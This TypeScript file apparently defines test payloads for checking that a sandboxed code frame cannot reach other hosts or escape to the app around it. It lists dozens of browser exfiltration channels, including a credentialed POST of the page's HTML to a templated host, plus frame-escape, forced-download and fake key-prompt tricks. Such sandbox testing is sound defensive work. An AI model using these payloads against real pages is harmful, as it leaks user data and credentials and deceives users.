import type { Family } from './attack.ts';

/** Ways to another host. */
export const sending: Family = {
  name: 'send',
  attacks: {
    fetch: [
      'a request',
      ({ at }) =>
        `await fetch('${at}', { mode: 'no-cors', credentials: 'include', body: document.documentElement.outerHTML, method: 'POST' })`,
    ],
    later: ['a request for later', ({ at }) => `fetchLater('${at}', { activateAfter: 0 })`],
    keepAlive: [
      'a request that outlives the page',
      ({ at }) => `await fetch('${at}', { keepalive: true, mode: 'no-cors' })`,
    ],
    xhr: [
      'a request of old',
      ({ at }) => `const request = new XMLHttpRequest(); request.open('GET', '${at}', false); request.send()`,
    ],
    beacon: ['a beacon', ({ at }) => `navigator.sendBeacon('${at}', 'x')`],
    socket: ['a socket', ({ at }) => `new WebSocket('${at}'.replace('http', 'ws'))`],
    socketStream: [
      'a socket as a stream',
      ({ at }) => `await new WebSocketStream('${at}'.replace('http', 'ws')).opened`,
    ],
    transport: ['a transport', ({ at }) => `await new WebTransport('${at}'.replace('http:', 'https:')).ready`],
    events: ['a stream of events', ({ at }) => `new EventSource('${at}')`],
    image: ['a picture', ({ at }) => `new Image().src = '${at}'`],
    sound: ['a sound', ({ at }) => `await new Audio('${at}').play()`],
    script: [
      'a script',
      ({ at }) => `document.head.append(Object.assign(document.createElement('script'), { src: '${at}' }))`,
    ],
    module: ['a module', ({ at }) => `await import('${at}')`],
    dataModule: [
      'a module in its address that imports',
      ({ at }) => `await import('data:text/javascript,import "${at}"')`,
    ],
    font: ['a font', ({ at }) => `await new FontFace('x', 'url(${at})').load()`],
    sheet: [
      'a style sheet that is made',
      ({ at }) =>
        `const sheet = new CSSStyleSheet(); sheet.replaceSync('*{background:url(${at})}'); document.adoptedStyleSheets = [sheet]`,
    ],
    worklet: [
      'a worklet',
      ({ at }) =>
        `await CSS.paintWorklet.addModule('${at}'); await new AudioContext().audioWorklet.addModule('${at}/2')`,
    ],
    wasm: ['a program', ({ at }) => `await WebAssembly.compileStreaming(fetch('${at}'))`],
    call: [
      'a call',
      ({ at }) =>
        `const call = new (window.RTCPeerConnection ?? window.webkitRTCPeerConnection)({ iceServers: [{ urls: 'stun:' + new URL('${at}').host }] }); call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer())`,
    ],
    callNested: [
      'a call from a frame within',
      ({ at }) =>
        `const frame = document.createElement('iframe'); document.body.append(frame); const Call = frame.contentWindow.RTCPeerConnection; const call = new Call({ iceServers: [{ urls: 'stun:' + new URL('${at}').host }] }); call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer())`,
    ],
    fetchNested: [
      'a request from a frame within',
      ({ at }) =>
        `const frame = document.createElement('iframe'); document.body.append(frame); await frame.contentWindow.fetch('${at}', { mode: 'no-cors' })`,
    ],
    sourceDoc: [
      'a request from a document within',
      ({ at }) =>
        `const frame = document.createElement('iframe'); frame.srcdoc = '<img src="${at}"><scr' + 'ipt>fetch("${at}/2")</scr' + 'ipt>'; document.body.append(frame)`,
    ],
    blobFrame: [
      'a frame of its own text',
      ({ at }) =>
        `const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob(['<img src="${at}">'], { type: 'text/html' })); document.body.append(frame)`,
    ],
    shadow: [
      'a frame in a shadow',
      ({ at }) =>
        `const host = document.createElement('div'); document.body.append(host); host.attachShadow({ mode: 'closed' }).innerHTML = '<iframe src="${at}"></iframe><img src="${at}/2">'`,
    ],
    preconnect: [
      'a connection opened ahead',
      ({ at }) =>
        `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: '${at}' }))`,
    ],
    dns: [
      'a name looked up ahead',
      ({ host }) =>
        `document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//${host}' }))`,
    ],
    speculation: [
      'rules for pages to come',
      ({ at }) =>
        `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: ['${at}'], eagerness: 'immediate' }] }) }))`,
    ],
    form: [
      'a form',
      ({ at }) =>
        `const form = Object.assign(document.createElement('form'), { action: '${at}', method: 'post' }); document.body.append(form); form.submit()`,
    ],
    formTop: [
      'a form for the window above',
      ({ at }) =>
        `const form = Object.assign(document.createElement('form'), { action: '${at}', target: '_top' }); document.body.append(form); form.requestSubmit()`,
    ],
    ping: [
      'a link that tells',
      ({ at }) =>
        `const link = Object.assign(document.createElement('a'), { href: '#x', ping: '${at}' }); document.body.append(link); link.click()`,
    ],
    own: [
      'our own server',
      ({ app }) =>
        `await fetch('${app}api/models?canary', { mode: 'no-cors' }); navigator.sendBeacon('${app}api/events?canary', '{}')`,
    ],
    ownImage: ['our own server by a picture', ({ app }) => `new Image().src = '${app}api/auth/logout?canary'`],
    reporting: [
      'reports of failures',
      ({ at }) =>
        `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=Content-Security-Policy content="img-src none; report-uri ${at}">'); new Image().src = 'data:,'`,
    ],
    sourceMap: [
      'the map of a script',
      ({ at }) =>
        `document.head.append(Object.assign(document.createElement('script'), { textContent: '1\\n//# sourceMappingURL=${at}' }))`,
    ],
    favicon: [
      'an icon',
      ({ at }) => `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: '${at}' }))`,
    ],
    bidding: [
      'machinery of advertisers',
      ({ at }) =>
        `await Promise.allSettled([navigator.joinAdInterestGroup?.({ owner: '${at}', name: 'x', lifetimeMs: 1_000 }, 1), document.browsingTopics?.(), window.sharedStorage?.worklet.addModule('${at}/2')])`,
    ],
  },
};

/** Ways out of the frame, and what bothers its reader. Each may end the page that it runs in. */
export const leaving: Family = {
  name: 'go',
  attacks: {
    prototype: [
      'what its own page is built on',
      () =>
        'Object.prototype.then = Object.prototype.html = "<p>x"; Array.prototype[Symbol.iterator] = null; Element.prototype.remove = () => {}; MutationObserver.prototype.observe = () => {}',
    ],
    top: ['the window above by its address', ({ at }) => `top.location = '${at}'`],
    topScript: ['a script as the address of the window above', ({ run }) => `top.location.href = 'javascript:${run}'`],
    topReplace: ['the window above without a trace', ({ at }) => `top.location.replace('${at}')`],
    topHash: ['a part of the address of the app', () => `parent.location.hash = 'canary'`],
    topOpen: ['the window above by its name', ({ at }) => `open('${at}', '_top'); open('${at}', '_parent')`],
    topLink: [
      'the window above by a link',
      ({ at }) =>
        `const link = Object.assign(document.createElement('a'), { href: '${at}', target: '_top' }); document.body.append(link); link.click()`,
    ],
    topNavigation: [
      'the window above by its history',
      ({ at }) => `top.history.pushState({}, '', '?canary'); top.navigation.navigate('${at}')`,
    ],
    topClose: [
      'to close and to stop the window above',
      () => 'top.close(); top.stop(); top.focus(); top.blur(); top.print()',
    ],
    back: ['back and forth', () => 'history.back(); history.go(-2)'],
    self: ['elsewhere by its own address', ({ at }) => `location = '${at}'`],
    selfOwn: ['to a call of ours by its own address', ({ app }) => `location.href = '${app}api/models?canary'`],
    selfApp: ['to the app by its own address', ({ app }) => `location.assign('${app}?canary')`],
    selfScript: ['to a script by its own address', ({ run }) => `location = 'javascript:parent.${run}'`],
    selfData: [
      'to a page in its own address',
      ({ run }) => `location = 'data:text/html,<script>parent.${run}</script>'`,
    ],
    selfBlob: [
      'to a page of its own text',
      ({ run }) =>
        `location = URL.createObjectURL(new Blob(['<script>parent.${run}</scr' + 'ipt>'], { type: 'text/html' }))`,
    ],
    reload: ['to begin again and again', () => 'location.reload()'],
    renamed: [
      'to the app, under a name that it gave itself',
      () => 'history.replaceState({}, "", "/?canary"); location.reload()',
    ],
    renamedCall: [
      'to a call of ours, under a name that it gave itself',
      () => 'history.pushState({}, "", "/api/models?canary"); location.reload(); history.go(0)',
    ],
    otherSealed: ['to our other sealed page', ({ app }) => `location = '${app}code-frame.html'`],
    popUp: ['a window', ({ at }) => `open('${at}'); open('about:blank'); open('', 'x', 'popup,width=100,height=100')`],
    popUpOwn: [
      'a window of the app',
      ({ app }) => `const opened = open('${app}?canary'); evil[opened.localStorage.planted]`,
    ],
    pictureInPicture: ['a window that floats', () => 'await documentPictureInPicture.requestWindow()'],
    download: [
      'a file by a link',
      () =>
        `const link = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'setup.exe' }); document.body.append(link); link.click()`,
    ],
    downloadData: [
      'a file by its address',
      () =>
        `const link = Object.assign(document.createElement('a'), { href: 'data:application/octet-stream,x', download: 'x.html' }); link.click(); location = 'data:application/octet-stream,x'`,
    ],
    picker: [
      'a file by the system',
      () => 'await Promise.any([showSaveFilePicker(), showOpenFilePicker(), showDirectoryPicker()])',
    ],
    alert: ['a question', () => 'alert("canary"); confirm("canary"); prompt("canary"); print()'],
    fullScreen: [
      'the whole screen',
      () =>
        'await document.documentElement.requestFullscreen(); document.documentElement.requestPointerLock(); await navigator.keyboard.lock()',
    ],
    dialogue: [
      'a dialogue over the app',
      () =>
        'const dialog = document.createElement("dialog"); dialog.textContent = "Enter your key"; document.body.append(dialog); dialog.showModal()',
    ],
  },
};
